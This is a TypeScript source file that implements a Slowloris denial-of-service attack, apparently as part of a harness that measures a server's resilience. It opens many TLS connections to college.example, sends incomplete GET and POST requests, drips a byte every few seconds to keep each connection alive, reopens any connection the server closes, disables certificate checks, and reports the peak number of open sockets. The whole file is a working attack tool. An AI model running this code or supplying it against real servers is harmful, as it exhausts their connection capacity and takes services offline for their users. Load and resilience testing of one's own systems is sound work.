import { connect } from 'node:net'
import { connect as connectTls, createSecureContext, type TLSSocket } from 'node:tls'
import { addresses } from './network.ts'

const dripMilliseconds = 3_000
const head = 'Host: college.example\r\n'

/** In the headers, in a form, or before anything. */
const beginnings = [
  `GET / HTTP/1.1\r\n${head}X-Slow: `,
  `POST /api/contact HTTP/1.1\r\n${head}Content-Type: application/json\r\nContent-Length: 900\r\n\r\n{`,
  '',
]

/** Shared, since creating it takes longer than a handshake. */
const secureContext = createSecureContext()

/** Slowloris: sends a byte on each now and then, and reopens what is closed. */
function openSlowSockets(count: number) {
  const open = new Set<TLSSocket>()
  let most = 0
  let made = 0
  const openOne = () => {
    const beginning = beginnings[made++ % beginnings.length] ?? ''
    const { first: host, nuisance: localAddress } = addresses
    const socket = connectTls({
      socket: connect({ host, port: 443, localAddress }).on('error', () => undefined),
      servername: 'college.example',
      rejectUnauthorized: false,
      secureContext,
    })
    socket.on('secureConnect', () => {
      open.add(socket)
      most = Math.max(most, open.size)
      if (beginning) socket.write(beginning)
    })
    // Being cut off is the expected outcome.
    socket.on('error', () => undefined)
    socket.on('close', () => {
      open.delete(socket)
      setTimeout(openOne, 500)
    })
    socket.resume()
  }
  for (let at = 0; at < count; at++) setTimeout(openOne, at * 2)
  setInterval(() => {
    for (const socket of open) if (socket.writable) socket.write('x')
  }, dripMilliseconds)
  return { most: () => most }
}

const slow = openSlowSockets(Number(process.argv[2]))
process.once('message', () => process.send?.(slow.most(), () => process.exit(0)))
